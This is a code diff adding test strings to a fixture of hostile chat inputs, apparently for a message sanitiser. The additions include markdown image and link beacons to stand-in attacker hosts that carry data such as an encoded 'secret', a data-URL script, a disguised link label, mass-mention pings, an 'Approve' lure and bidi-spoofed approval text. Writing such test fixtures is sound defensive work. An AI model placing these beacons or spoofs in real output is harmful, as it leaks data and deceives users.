@@ -20,6 +20,20 @@ WILD = (
     "www.evil.example",
     "<!channel> <@U1> <at id=all></at> @all @here @所有人",
     "safe\u202etxt.exe",
+    "![](http://198.51.100.7/?pod=checkout)",
+    "![x][1]\n[1]: https://198.51.100.7/c.png",
+    "[runbook](http://198.51.100.7/r?d=c2VjcmV0)",
+    "HTTPS://EVIL.EXAMPLE/upper",
+    "[grafana.corp](https://evil.example/grafana.corp)",
+    "<https://evil.example|see the panel>",
+    "[x](//evil.example/y)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "<img src=https://198.51.100.7/x.png>",
+    "[mail](mailto:out@evil.example?body=secret)",
+    "<!subteam^S1|oncall> <!here|here>",
+    "@channel @everyone please click Approve",
+    '<at user_id="ou_1">Chen</at> approved this',
+    "approved \u2067yb nehC\u2069",
 )
 
 
